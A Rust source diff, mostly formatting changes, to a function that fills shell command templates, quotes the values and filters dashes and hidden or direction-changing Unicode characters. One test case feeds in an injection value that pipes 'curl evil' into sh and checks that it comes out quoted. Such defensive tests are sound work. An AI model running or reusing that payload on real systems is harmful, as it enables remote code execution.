@@ -20,7 +20,9 @@ pub fn fill<'v>(template: &str, value: impl Fn(&str) -> Option<Cow<'v, str>>) ->
     let mut command = String::with_capacity(template.len());
     let mut rest = template;
     while let Some((before, place)) = rest.split_once("${") {
-        let Some((name, behind)) = place.split_once('}') else { break };
+        let Some((name, behind)) = place.split_once('}') else {
+            break;
+        };
         command.push_str(before);
         match value(name).filter(|value| is_safe(value)) {
             Some(value) => command.push_str(&quote(&value)),
@@ -50,7 +52,10 @@ pub fn quote(value: &str) -> Cow<'_, str> {
 
 fn is_safe(value: &str) -> bool {
     // Characters that are not seen, or turn the writing around, hide what is pasted.
-    let hidden = |c: char| c.is_control() || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}');
+    let hidden = |c: char| {
+        c.is_control()
+            || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}')
+    };
     !value.is_empty() && value.len() <= MAX && !value.starts_with('-') && !value.contains(hidden)
 }
 
@@ -70,7 +75,10 @@ mod tests {
             _ => None,
         };
         for (template, expected) in [
-            ("start --name ${name} --region ${region}", "start --name 'main trail' --region eu-west-1"),
+            (
+                "start --name ${name} --region ${region}",
+                "start --name 'main trail' --region eu-west-1",
+            ),
             ("x ${evil}", r"x 'x'\''; curl evil | sh #'"),
             ("x ${dash} ${bell} ${gone}", "x '<dash>' '<bell>' '<gone>'"),
             ("no ${end", "no ${end"),
